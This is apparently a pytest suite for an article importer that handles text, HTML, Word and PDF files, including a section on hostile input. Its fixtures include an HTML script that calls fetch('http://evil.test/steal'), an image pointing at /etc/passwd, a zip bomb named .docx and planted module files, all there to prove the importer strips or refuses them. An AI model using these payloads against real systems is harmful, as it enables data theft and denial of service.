"""Article import: every format from real files the tests write, and every kind of bad input."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import docx
import pytest
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from app.importing import ImportFailure, import_file, import_text
from app.importing.pdf import read_pdf

PROSE = (
    "The minister said the plan would cost £600m over five years.\n"
    "“We will not wait,” she told reporters in Kyiv."
)


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# ----- text files ---------------------------------------------------------------------------
def test_utf8_text_keeps_every_character(tmp_path: Path) -> None:
    source = import_file(write(tmp_path / "a.txt", PROSE.encode("utf-8")))
    assert source.text == PROSE
    assert source.encoding == "utf-8"
    assert source.title == "The minister said the plan would cost £600m over five years."
    assert [source.text[p.start : p.end] for p in source.paragraphs] == PROSE.split("\n")


def test_utf8_with_bom_drops_the_bom(tmp_path: Path) -> None:
    source = import_file(write(tmp_path / "a.txt", b"\xef\xbb\xbf" + PROSE.encode("utf-8")))
    assert source.text == PROSE


def test_utf16_with_bom(tmp_path: Path) -> None:
    source = import_file(write(tmp_path / "a.txt", PROSE.encode("utf-16")))
    assert source.text == PROSE
    assert source.encoding == "utf-16"


def test_cp1252_is_detected(tmp_path: Path) -> None:
    text = "Le café “Zoë” a coûté 5 €, déjà payé – naïve façade.\nÀ bientôt, señor Müller."
    source = import_file(write(tmp_path / "legacy.txt", text.encode("cp1252")))
    assert source.text == text
    assert source.encoding == "cp1252"


def test_encoding_override_reads_as_asked(tmp_path: Path) -> None:
    path = write(tmp_path / "cyr.txt", "Привет, мир".encode("koi8-r"))
    assert import_file(path, encoding="koi8-r").text == "Привет, мир"


def test_unknown_encoding_override_is_a_clear_message(tmp_path: Path) -> None:
    path = write(tmp_path / "a.txt", b"plain")
    with pytest.raises(ImportFailure, match="not a text encoding"):
        import_file(path, encoding="no-such-codec")


def test_line_endings_and_control_characters_are_normalised(tmp_path: Path) -> None:
    body = "An ordinary sentence of an article. " * 3
    raw = f"First line\r\nSecond\x00 line\x07\rThird\x0b line\u2028Fourth\ufffe {body}"
    source = import_file(write(tmp_path / "a.txt", raw.encode("utf-8")))
    assert source.text == f"First line\nSecond line\nThird line\nFourth {body}".rstrip()


def test_markdown_reads_as_prose(tmp_path: Path) -> None:
    markdown = (
        "# Troops on the move\n\nThe **army** said [in a statement](http://x.test) it was ready.\n"
    )
    source = import_file(write(tmp_path / "a.md", markdown.encode()))
    assert source.title == "Troops on the move"
    assert "The army said in a statement it was ready." in source.text
    assert "http" not in source.text and "**" not in source.text


def test_hard_wrapped_text_keeps_its_paragraphs(tmp_path: Path) -> None:
    text = "Title\n\nOne sentence that\nwraps over lines.\n\nAnother one\nthat wraps too."
    source = import_file(write(tmp_path / "a.txt", text.encode()))
    assert [source.text[p.start : p.end] for p in source.paragraphs] == [
        "Title",
        "One sentence that\nwraps over lines.",
        "Another one\nthat wraps too.",
    ]


# ----- refusals -----------------------------------------------------------------------------
def test_empty_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ImportFailure, match="empty"):
        import_file(write(tmp_path / "empty.txt", b""))


def test_whitespace_only_paste_is_refused() -> None:
    with pytest.raises(ImportFailure, match="empty"):
        import_text(" \n\t \n")


def test_random_bytes_are_not_text(tmp_path: Path) -> None:
    noise = bytes(range(256)) * 40 + os.urandom(4096)
    with pytest.raises(ImportFailure, match="not a text file"):
        import_file(write(tmp_path / "noise.txt", noise))


def test_missing_file_and_folder_and_unknown_type(tmp_path: Path) -> None:
    with pytest.raises(ImportFailure, match="does not exist"):
        import_file(tmp_path / "gone.txt")
    with pytest.raises(ImportFailure, match="folder"):
        import_file(tmp_path.joinpath("dir.txt").mkdir() or tmp_path / "dir.txt")
    with pytest.raises(ImportFailure, match="cannot be imported"):
        import_file(write(tmp_path / "a.exe", b"MZ"))


def test_text_too_long_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "huge.txt", b"word " * 1_100_000)
    with pytest.raises(ImportFailure, match="too long"):
        import_file(path)


# ----- HTML ---------------------------------------------------------------------------------
HTML = """<!doctype html><html><head><title>Troops head west | The Daily Test</title>
<meta name="author" content="Jane Reporter"><meta property="og:site_name" content="The Daily Test">
<script>document.write('INJECTED SCRIPT TEXT'); fetch('http://evil.test/steal');</script>
<style>.x{color:red}</style></head><body>
<nav><a href="/">Home</a> <a href="/world">World</a> <a href="/sport">Sport NAVIGATION</a></nav>
<!-- a comment that must vanish -->
<article><h1>Troops head west</h1>
<p>The defence ministry said on Tuesday that 10,000 soldiers had been moved to the border region,
according to officials who spoke on condition of anonymity.</p>
<p>“We are watching the situation very closely,” a spokesman told reporters at the ministry.</p>
<p>It remains unclear whether the troops will cross, and analysts disagree on the timing.</p>
<img src="file:///etc/passwd"><img src="http://tracker.test/pixel.gif">
</article>
<footer>Copyright 2024 The Daily Test. All rights reserved. FOOTER LINKS</footer>
</body></html>"""


def test_html_main_text_and_metadata(tmp_path: Path) -> None:
    source = import_file(write(tmp_path / "page.html", HTML.encode("utf-8")))
    assert "10,000 soldiers had been moved" in source.text
    assert "We are watching the situation very closely" in source.text
    for junk in ("INJECTED", "NAVIGATION", "comment that must vanish", "color:red", "passwd"):
        assert junk not in source.text
    assert source.title.startswith("Troops head west")
    assert source.author == "Jane Reporter"


def test_html_without_article_text_is_refused(tmp_path: Path) -> None:
    path = write(
        tmp_path / "empty.html", b"<html><head><script>x()</script></head><body></body></html>"
    )
    with pytest.raises(ImportFailure, match="no readable article text"):
        import_file(path)


# ----- Word ---------------------------------------------------------------------------------
def make_docx(path: Path) -> Path:
    document = docx.Document()
    document.core_properties.title = "Border report"
    document.core_properties.author = "A. Analyst"
    document.add_heading("Border report", level=1)
    document.add_paragraph("The ministry said 10,000 soldiers had moved.")
    document.add_paragraph("Ελληνικά, кириллица and accents: café.")
    document.save(path)
    return path


def test_docx_text_and_properties(tmp_path: Path) -> None:
    source = import_file(make_docx(tmp_path / "report.docx"))
    assert "The ministry said 10,000 soldiers had moved." in source.text
    assert "Ελληνικά, кириллица and accents: café." in source.text
    assert source.title == "Border report"
    assert source.author == "A. Analyst"


def test_truncated_docx_is_refused(tmp_path: Path) -> None:
    whole = make_docx(tmp_path / "whole.docx").read_bytes()
    with pytest.raises(ImportFailure, match="damaged"):
        import_file(write(tmp_path / "cut.docx", whole[: len(whole) // 2]))


def test_zip_bomb_named_docx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * (60 * 1024 * 1024))
    assert path.stat().st_size < 1024 * 1024
    with pytest.raises(ImportFailure, match="decompression bomb"):
        import_file(path)


def test_plain_zip_named_docx_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "other.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "hello")
    with pytest.raises(ImportFailure, match="not a Word document"):
        import_file(path)


# ----- PDF ----------------------------------------------------------------------------------
def make_pdf(path: Path, lines: list[str], *, title: str = "") -> Path:
    pdf = canvas.Canvas(str(path), pagesize=A4)
    pdf.setTitle(title)
    y = 800
    for line in lines:
        pdf.drawString(72, y, line)
        y -= 16
    pdf.showPage()
    pdf.save()
    return path


def test_pdf_text_layer_with_wrapped_lines_rejoined(tmp_path: Path) -> None:
    path = make_pdf(
        tmp_path / "a.pdf",
        [
            "Officials said the convoy of 40 trucks",
            "crossed the border on Monday.",
            "A second paragraph starts here.",
        ],
        title="Convoy",
    )
    source = import_file(path)
    assert "Officials said the convoy of 40 trucks crossed the border on Monday." in source.text
    assert "A second paragraph starts here." in source.text
    assert source.title == "Convoy"


def test_pdf_without_text_layer_gets_a_clear_message(tmp_path: Path) -> None:
    path = tmp_path / "scan.pdf"
    pdf = canvas.Canvas(str(path), pagesize=A4)
    pdf.rect(100, 100, 300, 400, fill=1)
    pdf.showPage()
    pdf.save()
    with pytest.raises(ImportFailure, match="no text layer"):
        import_file(path)


def test_malformed_pdf_is_refused(tmp_path: Path) -> None:
    path = write(
        tmp_path / "bad.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\n%%EOF garbage"
    )
    with pytest.raises(ImportFailure, match=r"bad\.pdf"):
        import_file(path)


def test_truncated_pdf_is_refused(tmp_path: Path) -> None:
    whole = make_pdf(tmp_path / "whole.pdf", ["Some text here."]).read_bytes()
    with pytest.raises(ImportFailure, match=r"cut\.pdf"):
        import_file(write(tmp_path / "cut.pdf", whole[: len(whole) // 3]))


def test_pdf_reading_is_bounded_in_time(tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "slow.pdf", ["Text."])
    with pytest.raises(ImportFailure, match="longer than"):
        read_pdf(path, name="slow.pdf", time_limit=0.01)


# ----- boilerplate --------------------------------------------------------------------------
def test_read_more_links_and_credits_are_boilerplate() -> None:
    text = (
        "Officials said the talks had failed.\n"
        "Read more:\n"
        "Ten things to know about the summit\n"
        "Why the talks matter\n"
        "The minister later said the talks would resume.\n"
        "Image caption: The summit venue, seen from the air\n"
        "Share this article"
    )
    source = import_text(text)
    marked = [source.text[b.start : b.end] for b in source.boilerplate]
    assert marked == [
        "Read more:",
        "Ten things to know about the summit",
        "Why the talks matter",
        "Image caption: The summit venue, seen from the air",
        "Share this article",
    ]
    assert not source.is_boilerplate(0, 10)


# ----- found by a hostile-input trial ----------------------------------------------------------
def test_non_text_codecs_are_refused_as_encodings(tmp_path: Path) -> None:
    path = write(tmp_path / "a.txt", b"plain text")
    for codec in ("rot13", "hex", "base64", "zlib", "undefined", "unicode_escape"):
        with pytest.raises(ImportFailure, match="not a text encoding"):
            import_file(path, encoding=codec)


def test_utf16_without_bom_is_recognised(tmp_path: Path) -> None:
    text = "Officials said the talks had failed."
    assert import_file(write(tmp_path / "le.txt", text.encode("utf-16-le"))).text == text
    assert import_file(write(tmp_path / "be.txt", text.encode("utf-16-be"))).text == text


def test_pipes_and_devices_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.txt"
    os.mkfifo(fifo)
    with pytest.raises(ImportFailure, match="not a regular file"):
        import_file(fifo)
    device = tmp_path / "zero.txt"
    device.symlink_to("/dev/zero")
    with pytest.raises(ImportFailure, match="not a regular file"):
        import_file(device)


def test_markdown_with_only_markup_is_empty(tmp_path: Path) -> None:
    markup = b"*\n\n[](http://x)\n\n**\n\n```\n```\n\n<!-- c -->\n---\n***\n___\n![](img.png)\n"
    with pytest.raises(ImportFailure, match="empty"):
        import_file(write(tmp_path / "only.md", markup))


def test_bidi_overrides_are_removed() -> None:
    source = import_text("He said \u202eevil\u202c words \u2066here\u2069.")
    assert source.text == "He said evil words here."


def test_file_name_keeps_its_case_in_messages(tmp_path: Path) -> None:
    with pytest.raises(ImportFailure, match=r"BOM-Only\.TXT"):
        import_file(write(tmp_path / "BOM-Only.TXT", b"\xef\xbb\xbf"))


def test_pdf_reader_ignores_modules_in_the_current_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    marker = tmp_path / "planted-code-ran"
    (tmp_path / "pypdf.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (tmp_path / "json.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    path = make_pdf(tmp_path / "a.pdf", ["Officials said the road was open."])
    monkeypatch.chdir(tmp_path)
    assert "Officials said the road was open." in import_file(path).text
    assert not marker.exists()


def test_aes_encrypted_pdf_without_open_password_is_read(tmp_path: Path) -> None:
    from pypdf import PdfReader, PdfWriter

    plain = make_pdf(tmp_path / "plain.pdf", ["Officials said the road was open."])
    writer = PdfWriter(clone_from=PdfReader(plain))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-256")
    locked = tmp_path / "aes.pdf"
    with locked.open("wb") as stream:
        writer.write(stream)
    assert "Officials said the road was open." in import_file(locked).text
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    with (tmp_path / "aes-pw.pdf").open("wb") as stream:
        writer.write(stream)
    with pytest.raises(ImportFailure, match="password"):
        import_file(tmp_path / "aes-pw.pdf")
